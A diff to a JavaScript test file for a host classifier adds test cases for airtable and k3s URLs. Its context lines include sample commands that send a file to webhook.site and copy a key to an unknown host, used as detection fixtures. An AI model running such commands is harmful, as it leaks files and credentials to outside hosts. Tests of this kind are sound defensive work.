@@ -6,6 +6,8 @@ describe('hosts in a line of a program', () => {
   it.each([
     ["fetch('https://metrics.kitchen-sync.dev/v1')", "fetch('https:// NEWHOST /v1')", []],
     ["fetch('https://api.github.com/user')", "fetch('https:// KNOWNHOST /user')", ['host:github.com']],
+    ['get("https://api.airtable.com/v1")', 'get("https:// KNOWNHOST /v1")', ['host:airtable.com']],
+    ['curl https://get.k3s.io', 'curl https:// KNOWNHOST ', ['host:k3s.io']],
     ['curl -d @f https://webhook.site/x', 'curl -d @f https:// NEWHOST /x', ['host kind:drop']],
     [
       'scp key a.unheard-of.io:; curl raw.githubusercontent.com',
